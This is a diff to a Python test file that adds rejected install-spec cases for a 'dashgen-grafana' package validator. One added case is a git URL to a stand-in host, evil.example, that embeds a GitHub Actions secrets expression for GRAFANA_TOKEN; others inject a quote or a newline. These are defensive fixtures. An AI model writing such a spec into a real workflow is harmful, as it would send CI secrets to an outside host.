@@ -159,6 +159,10 @@ def test_no_install_spec_in_the_repository_names_another_distribution():
         ("dashgen-grafana @ git+https://git.example/sre/dashgen.git@main", False),
         (f"dashgen-grafana @ git+http://git.example/sre/dashgen.git@{SHA}", False),
         (f"dashgen-grafana @ git+https://git.example/a b@{SHA}", False),
+        # what GitHub or YAML would read in the workflow: an expression (a secret sent to the host), a quote
+        (f"dashgen-grafana @ git+https://evil.example/${{{{secrets.GRAFANA_TOKEN}}}}@{SHA}", False),
+        (f'dashgen-grafana @ git+https://git.example/a"b@{SHA}', False),
+        (f"dashgen-grafana @ git+https://git.example/a\\u000a@{SHA}", False),
         ("dashgen-grafana==0.1.0 dashgen==0.1.0", False),
     ],
 )
